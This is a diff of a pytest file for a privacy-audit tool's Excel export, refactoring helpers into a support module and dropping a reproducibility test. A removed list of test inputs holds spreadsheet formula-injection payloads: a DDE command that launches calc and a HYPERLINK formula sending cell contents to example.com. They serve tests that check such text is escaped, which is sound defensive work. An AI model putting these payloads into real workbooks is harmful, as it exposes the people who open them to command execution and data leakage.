@@ -3,10 +3,7 @@
 import hashlib
 import io
 import json
-import os
 import re
-import subprocess
-import sys
 import zipfile
 from dataclasses import replace
 from datetime import date
@@ -14,7 +11,6 @@ from datetime import date
 import openpyxl
 import pandas as pd
 import pytest
-from bench import make_firm, request, write_register
 from openpyxl.utils import get_column_letter
 from privacy_audit.control import SEVERITIES
 from privacy_audit.reports import annex
@@ -29,20 +25,9 @@ from privacy_audit.reports.screen import SIGNS
 from privacy_audit.request import ROOT
 from privacy_audit.result import audit
 from python_calamine import CalamineWorkbook
+from support.workbooks import RISKY, expected_counts, risky_firm, rows, start_counts
 
 LAPTOP = (1366 - 26, 467)  # points on the screen that Excel leaves for cells on a laptop of 1366 by 768, in pixels
-RISKY = ['=HYPERLINK("http://example.com/?x="&A1,"Pay")', "=cmd|'/c calc'!A1", "+44 20 7946 0000", "-2+3"]
-HASHES = """
-import hashlib
-from privacy_audit.reports.excel.firm import excel
-from privacy_audit.reports.excel.accountant import accountant_xlsx
-from privacy_audit.reports.excel.insurer import insurer_xlsx
-from privacy_audit.request import Request
-from privacy_audit.result import audit
-result = audit(Request.of(quarter="2026-Q3"))
-for made in (excel(result), accountant_xlsx(result, "0" * 64), insurer_xlsx(result, "0" * 64)):
-    print(hashlib.sha256(made).hexdigest())
-"""
 
 
 @pytest.fixture(scope="module")
@@ -61,32 +46,6 @@ def book(made):
 def values(made):
     """The same, opened by openpyxl with the values that previews show."""
     return openpyxl.load_workbook(io.BytesIO(made), data_only=True)
-
-
-def rows(sheet):
-    """The rows of a sheet's table as dictionaries; its header is the third row."""
-    head = [cell.value for cell in sheet[3]]
-    return [dict(zip(head, [cell.value for cell in row], strict=True)) for row in sheet.iter_rows(min_row=4)]
-
-
-def start_counts(cells):
-    """The numbers of the first sheet's block of states, by the words on their left."""
-    found = {}
-    for row in cells:
-        texts = [each for each in row if each not in {None, ""}]
-        for name in ("All tasks", "▲ critical or ◆ major", "Minutes of work"):
-            if name in texts:
-                found[name] = [int(each) for each in texts[texts.index(name) + 1 :]]
-    return found
-
-
-def expected_counts(example):
-    """The same numbers from findings.json, where every task is open."""
-    tasks = json.loads(findings_json(example))["tasks"]
-    serious = sum(each["severity"] in {"critical", "major"} for each in tasks)
-    counts = {"All tasks": len(tasks), "▲ critical or ◆ major": serious}
-    counts["Minutes of work"] = sum(each["effort"] for each in tasks)
-    return {name: [number, 0, 0, number] for name, number in counts.items()}
 
 
 def test_the_first_sheet_fits_a_laptop_without_scrolling(book, example):
@@ -274,18 +233,6 @@ def test_what_looks_like_a_formula_arrives_as_text(tmp_path):
         assert any(text in str(value) for value in flat)
 
 
-def risky_firm(folder):
-    """A firm whose suppliers are called like formulas."""
-    firm = make_firm(folder / "firm")
-    suppliers = [
-        {"legal_name": text, "service": "post", "country": "US", "role": "processor", "data_categories": "names"}
-        | {"contract_ref": "", "safeguard": "NONE", "art28_missing": text}
-        for text in RISKY
-    ]
-    write_register(firm / "registers" / "2026-Q3", "processors", suppliers)
-    return request(firm, "2026-Q3")
-
-
 @pytest.mark.parametrize("text", [*RISKY, "@SUM(1+1)", "\t=1+1", "\uff1d1+1", "\uff20SUM(1)"])
 def test_text_that_begins_like_a_formula_is_marked_as_text(text):
     """Even once somebody has opened the cell and pressed return, or copied it elsewhere."""
@@ -323,20 +270,6 @@ def test_a_text_too_long_for_a_cell_is_cut_and_says_so():
         assert len(short.encode("utf-16-le")) // 2 <= LONGEST
         assert "[cut: the text has 40000 characters]" in short
     assert cleaned("a" * LONGEST) == "a" * LONGEST
-
-
-@pytest.mark.slow
-def test_two_time_zones_and_hash_seeds_give_the_same_bytes_of_all_three_books():
-    """Nothing of the machine or the moment gets in."""
-    found = []
-    for zone, seed in (("Pacific/Kiritimati", "1"), ("America/Los_Angeles", "2")):
-        environment = os.environ | {"TZ": zone, "PYTHONHASHSEED": seed}
-        done = subprocess.run(
-            [sys.executable, "-c", HASHES], env=environment, cwd=ROOT, capture_output=True, text=True, check=True
-        )
-        found.append(done.stdout.split())
-    assert found[0] == found[1]
-    assert len(set(found[0])) == 3
 
 
 def test_the_text_of_the_workbook_names_no_clock(made):
